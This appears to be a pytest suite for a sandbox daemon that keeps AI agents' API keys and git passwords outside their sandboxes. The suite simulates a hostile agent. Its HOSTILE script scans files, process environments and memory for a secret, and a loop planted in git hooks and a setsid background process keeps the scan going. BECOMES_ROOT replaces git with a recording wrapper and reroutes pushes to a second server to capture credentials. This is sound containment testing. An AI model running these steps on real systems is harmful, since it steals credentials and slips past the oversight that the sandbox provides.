"""Keys of agents: found as secrets or in the daemon's environment, and kept outside of the sandbox."""

import shutil
from pathlib import Path

import pytest

from daemons import ROOT
from git_server import PASSWORD, USER, GitServer, git
from networks import FAR, Page, Web, networked
from rest import Rest

GIT_PORT = 8080
OWN = "canary-of-the-daemon-51c2"
KEYS = {
    "ANTHROPIC_API_KEY": ("api.anthropic.com", "x-api-key", ""),
    "CLAUDE_CODE_OAUTH_TOKEN": ("api.anthropic.com", "Authorization", "Bearer "),
    "OPENAI_API_KEY": ("api.openai.com", "Authorization", "Bearer "),
    "GEMINI_API_KEY": ("generativelanguage.googleapis.com", "x-goog-api-key", ""),
    "AI_GATEWAY_API_KEY": ("ai-gateway.vercel.sh", "Authorization", "Bearer "),
    "GITHUB_TOKEN": ("api.github.com", "Authorization", "Bearer "),
}
# Asks the server of a key, and says what it has of the key itself.
AGENT = """environment: Bash
command: [/bin/sh, -ec, "{instruction}"]
keys: [%s]
hosts: [%s]
""" % (", ".join(KEYS), ", ".join(sorted({domain for domain, _, _ in KEYS.values()})))
OTHER = """environment: Bash
command: [/bin/sh, -ec, "{instruction}"]
keys: [OTHER_KEY]
hosts: [api.github.com]
"""
SERVERS = """keyServers:
  OTHER_KEY: {host: api.github.com, header: X-Other, before: "Key "}
"""


class Noting(Page):
    def do_GET(self):
        self.server.headers.append(dict(self.headers))
        super().do_GET()


@pytest.fixture(scope="module")
def private(world):
    """A server that wants a password, which is the secret push-password, and one to which the agent would send it."""
    directory = world.networks.directory / "git"
    directory.mkdir()
    server = GitServer(world.networks.far.listen(FAR[0], GIT_PORT), directory)
    server.other = GitServer(world.networks.far.listen(FAR[1], GIT_PORT), directory)
    server.make("private")
    assert world.rest.post("/api/secrets", {"name": "push-password", "value": PASSWORD}).status == 201
    yield server
    server.other.close()
    server.close()


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    registry = tmp_path_factory.mktemp("registry") / "registry"
    shutil.copytree(ROOT / "registry", registry)
    for name, text in (("asking", AGENT), ("unknown", OTHER), ("other", OTHER + SERVERS)):
        (registry / "agents" / f"{name}.yaml").write_text(text)
    with networked(ATOLL_REGISTRY=str(registry), OPENAI_API_KEY=OWN) as daemon:
        domains = sorted({domain for domain, _, _ in KEYS.values()})
        with (daemon.networks.directory / "hosts").open("a") as hosts:
            hosts.writelines(f"{FAR[5]} {domain}\n" for domain in domains)
        daemon.web = Web(daemon.networks.far.listen(FAR[5], 443), "model", daemon.networks.authority.certificate(*domains))
        daemon.web.RequestHandlerClass = Noting
        daemon.web.headers = []
        daemon.rest = Rest(daemon.socket)
        yield daemon
        daemon.web.close()


def run(world, name, **more):
    del world.web.headers[:]
    task = world.rest.call("POST", "/api/tasks", {
        "agent": "asking", "autoCleanup": True, "instruction": f"curl -sf https://{KEYS[name][0]}/; echo key=${name}",
        **more}, wait="true").json
    assert task["state"] == "succeeded", task
    return task


@pytest.mark.parametrize("name", KEYS)
def test_a_key_stays_outside(world, name):
    domain, header, before = KEYS[name]
    value = f"canary-{name.lower()}-88ab"
    if name == "OPENAI_API_KEY":
        value = OWN  # in the environment of the daemon
    else:
        assert world.rest.post("/api/secrets", {"name": name, "value": value}).status == 201
    task = run(world, name)
    assert name in task["keys_outside"] and task["output"].endswith("key=kept-outside-by-atoll\n"), task
    sent = {key.lower(): text for key, text in world.web.headers[0].items()}
    assert sent["host"] == domain and sent[header.lower()] == before + value
    # By choice, the agent has it.
    task = run(world, name, keys="environment")
    assert "keys_outside" not in task and task["output"].endswith(f"key={value}\n"), task
    if name != "OPENAI_API_KEY":
        assert world.rest.delete(f"/api/secrets/{name}").status == 204


def test_where_a_key_cannot_stay_outside(world):
    answer = world.rest.call("POST", "/api/tasks", {"agent": "asking", "instruction": "true", "keys": "egress",
                                                    "autoCleanup": True, "sandbox": {"networkMode": "none"}}, wait="true")
    assert answer.json["state"] == "failed" and "needs a sandbox of the provider native" in answer.json["error"]["message"]
    task = run(world, "OPENAI_API_KEY", env={"OPENAI_BASE_URL": "https://api.openai.com/"})
    assert task["output"].endswith(f"key={OWN}\n")  # the agent may ask another server
    assert world.rest.call("POST", "/api/tasks", {"instruction": "x", "keys": "here"}).status == 400


def test_egress_refuses_a_key_that_would_come_inside(world):
    """Without "egress" each of these tasks gives the key to the agent."""
    box = world.rest.call("POST", "/api/sandboxes", {"workdir": "/work"}).json["id"]
    agents = f"/api/sandboxes/{box}/agents"
    body = {"agent": "asking", "instruction": "echo key=$OPENAI_API_KEY"}
    task = world.rest.call("POST", agents, body, wait="true").json
    assert task["output"] == f"key={OWN}\n", task
    own = {"agent": "asking", "autoCleanup": True, "instruction": "echo key=$OPENAI_API_KEY", "env": {"OPENAI_API_KEY": "mine"}}
    assert world.rest.call("POST", "/api/tasks", own, wait="true").json["output"] == "key=mine\n"
    for path, status, words, more in (
            (agents, 409, "a new sandbox", {}),
            ("/api/tasks", 409, "a new sandbox", {"sandboxId": box}),
            ("/api/tasks", 400, "OPENAI_API_KEY", {"env": {"OPENAI_API_KEY": "mine"}}),
            ("/api/tasks", 400, "OPENAI_API_KEY", {"sandbox": {"env": {"OPENAI_API_KEY": "mine"}}}),
            ("/api/tasks", 400, "OPENAI_BASE_URL", {"env": {"OPENAI_BASE_URL": "https://two.test/"}})):
        answer = world.rest.call("POST", path, {**body, "keys": "egress", **more})
        assert answer.status == status and words in answer.error["message"], (path, more, answer.body)
    world.rest.delete(f"/api/sandboxes/{box}")


def test_a_key_that_only_its_agent_knows(world):
    """The agent's file says which server wants it; without that, it cannot stay outside."""
    assert world.rest.post("/api/secrets", {"name": "OTHER_KEY", "value": "canary-other-77"}).status == 201
    body = {"agent": "other", "keys": "egress", "instruction": "curl -sf https://api.github.com/; echo key=$OTHER_KEY",
            "autoCleanup": True}
    answer = world.rest.call("POST", "/api/tasks", {**body, "agent": "unknown"})
    assert answer.status == 409 and "keyServers" in answer.error["message"], answer.body
    del world.web.headers[:]
    task = world.rest.call("POST", "/api/tasks", body, wait="true").json
    assert task["state"] == "succeeded" and task["keys_outside"] == ["OTHER_KEY"], task
    assert task["output"].endswith("key=kept-outside-by-atoll\n")
    assert {key.lower(): text for key, text in world.web.headers[0].items()}["x-other"] == "Key canary-other-77"
    # What the request's own header rules do is up to it, but the key is not inside.
    rules = [{"domain": "api.github.com", "headers": {"X-Other": "own"}}]
    task = world.rest.call("POST", "/api/tasks", {**body, "sandbox": {"network": {"mode": "bridge", "transforms": rules}}},
                           wait="true").json
    assert task["state"] == "succeeded" and "canary" not in task["output"], task
    assert world.rest.delete("/api/secrets/OTHER_KEY").status == 204


HOSTILE = r"""python3 - <<'END'
import os, re
found = set()
want = re.compile(b'ss w0[r]d:')
def look(path, name, size=1 << 20, at=0):
    try:
        with open(path, 'rb', 0) as file:
            file.seek(at)
            if want.search(file.read(size)): found.add(name)
    except (OSError, ValueError, OverflowError): pass
for top in ('/work', '/home', '/tmp', '/etc', '/root', '/var', '/run', '/dev/shm'):
    for at, _, names in os.walk(top):
        for name in names:
            path = os.path.join(at, name)
            if os.path.isfile(path): look(path, path)
for pid in filter(str.isdigit, os.listdir('/proc')):
    if int(pid) == os.getpid(): continue
    look(f'/proc/{pid}/environ', f'environment of {pid}')
    try: maps = open(f'/proc/{pid}/maps').read().splitlines()
    except OSError: continue
    for line in maps:
        low, high = (int(n, 16) for n in line.split()[0].split('-'))
        if 'rw' in line and high - low < 1 << 26: look(f'/proc/{pid}/mem', f'memory of {pid}', high - low, low)
print('found', sorted(found))
END
"""


def test_a_hostile_repository_does_not_find_the_password(world, private):
    """The agent, a process that it leaves, and hooks of the repository search files and memory; where the password is
    planted, they find it."""
    hooks = "mkdir -p .git/hooks; for h in pre-push pre-commit; do cp /tmp/search .git/hooks/$h; done; chmod +x .git/hooks/*"
    left = "(setsid sh -c 'while :; do sh /tmp/search; done' </dev/null >/dev/null 2>&1 &)"
    task = world.rest.call("POST", "/api/tasks", {
        "agent": "shell", "branch": "hostile", "cleanup": "never", "sandbox": {"network": {"mode": "bridge"}},
        "repo": {"url": f"http://one.test:{GIT_PORT}/private.git", "username": USER, "secret": "push-password"},
        "instruction": f"cat > /tmp/search <<'OUTER'\n#!/bin/sh\n(\n{HOSTILE}\n) >> /tmp/found.txt\nOUTER\n{hooks}\n{left}\n"
                       f"echo 1 > new\n{HOSTILE}"}, wait="true").json
    assert task["state"] == "succeeded" and task["pushed"], task
    assert task["output"] == "found []\n", task["output"]
    box = task["sandbox_id"]
    found = world.rest.call("GET", f"/api/sandboxes/{box}/files", path="/tmp/found.txt").body.decode().splitlines()
    assert found and set(found) == {"found []"}, found
    # What the agent has left was ended before the branch was read.
    left = world.rest.post(f"/api/sandboxes/{box}/execs?wait=true", {"cmd": ["pgrep", "-f", "[/]tmp/search"]})
    assert left.json["result"]["exit_code"] == 1, left.body
    world.rest.delete(f"/api/sandboxes/{box}")
    # The control: what is there is found.
    planted = f"echo '{PASSWORD}' > /tmp/planted; X='{PASSWORD}' sleep 100 & \n{HOSTILE}"
    task = world.rest.call("POST", "/api/tasks", {"agent": "shell", "autoCleanup": True, "instruction": planted},
                           wait="true").json
    assert "/tmp/planted" in task["output"] and "memory of" in task["output"], task


# A git of the agent's: records what the typed one is given, and then does as git does.
RECORDING = """#!/bin/sh
{ echo "ran $*"; env; ls -l /proc/$$/fd; timeout 1 cat <&9; timeout 1 cat; } >> /tmp/recorded.txt 2>&1
exec /usr/bin/git "$@"
"""
BECOMES_ROOT = f"""set -e
cat > /tmp/git <<'OUTER'
{RECORDING}OUTER
sudo install -m 755 /tmp/git /usr/local/bin/git
for where in --global --local; do
  git config $where http.proxy http://two.test:{GIT_PORT}
  git config $where http.sslVerify false
  git config $where credential.helper 'store --file /tmp/kept'
  git config $where url.http://two.test:{GIT_PORT}/.insteadOf http://one.test:{GIT_PORT}/
done
git remote set-url origin http://two.test:{GIT_PORT}/private.git
for hook in pre-push reference-transaction; do
  printf '#!/bin/sh\ncat >> /tmp/recorded.txt; env >> /tmp/recorded.txt\n' > .git/hooks/$hook
  chmod +x .git/hooks/$hook
done
echo 1 > new"""


def searched(world, box):
    return world.rest.post(f"/api/sandboxes/{box}/execs?wait=true", {"cmd": ["sh", "-c", HOSTILE], "user": "root"}).json["stdout"]


def test_an_agent_that_replaces_git_does_not_get_the_password(world, private):
    """It is root in its sandbox, and git is what it wants it to be. The branch is pushed, to the right server."""
    rest = world.rest
    repo = {"url": f"http://one.test:{GIT_PORT}/private.git", "username": USER, "secret": "push-password"}
    task = rest.call("POST", "/api/tasks", {"agent": "shell", "branch": "fake", "cleanup": "never", "repo": repo,
                                            "sandbox": {"network": {"mode": "bridge"}}, "instruction": BECOMES_ROOT},
                     wait="true").json
    assert task["state"] == "succeeded" and task["pushed"], task
    assert git("rev-parse", "fake", cwd=private.root / "private.git").strip() == task["commit"]
    box = task["sandbox_id"]
    assert [one["id"] for one in rest.call("GET", "/api/sandboxes").json["sandboxes"]] == [box]
    recorded = rest.call("GET", f"/api/sandboxes/{box}/files", path="/tmp/recorded.txt").body.decode()
    assert "ran bundle create" in recorded, recorded
    assert searched(world, box) == "found []\n" and private.other.offered == []
    # The control: git that talks to the server in the agent's sandbox is given the password, and so it is found.
    rest.post(f"/api/sandboxes/{box}/git/push", {"path": "/work", "ref": "fake", "credentials": {
        "username": USER, "password": PASSWORD, "host": f"two.test:{GIT_PORT}"}})
    assert "/tmp/recorded.txt" in searched(world, box)
    private.other.offered.clear()
    rest.delete(f"/api/sandboxes/{box}")


def test_a_clone_is_not_repeated_beside_the_agent(world, private):
    """A retry from the clone begins with another sandbox; without a password it does not."""
    url = f"http://one.test:{GIT_PORT}"
    private.make("public/open")
    for repo in ({"url": f"{url}/private.git", "username": USER, "secret": "push-password"}, {"url": f"{url}/public/open.git"}):
        task = world.rest.call("POST", "/api/tasks", {
            "agent": "shell", "instruction": "echo 1 > new", "check": "false", "cleanup": "never", "repo": repo,
            "sandbox": {"network": {"mode": "bridge"}}}, wait="true").json
        assert task["step"] == "check", task
        assert world.rest.post(f"/api/tasks/{task['id']}/retry", {"step": "clone"}).status == 202
        again = world.rest.call("GET", f"/api/tasks/{task['id']}", wait="true").json
        assert again["step"] == "check" and (again["sandbox_id"] == task["sandbox_id"]) == ("secret" not in repo), again
        world.rest.delete(f"/api/sandboxes/{again['sandbox_id']}")
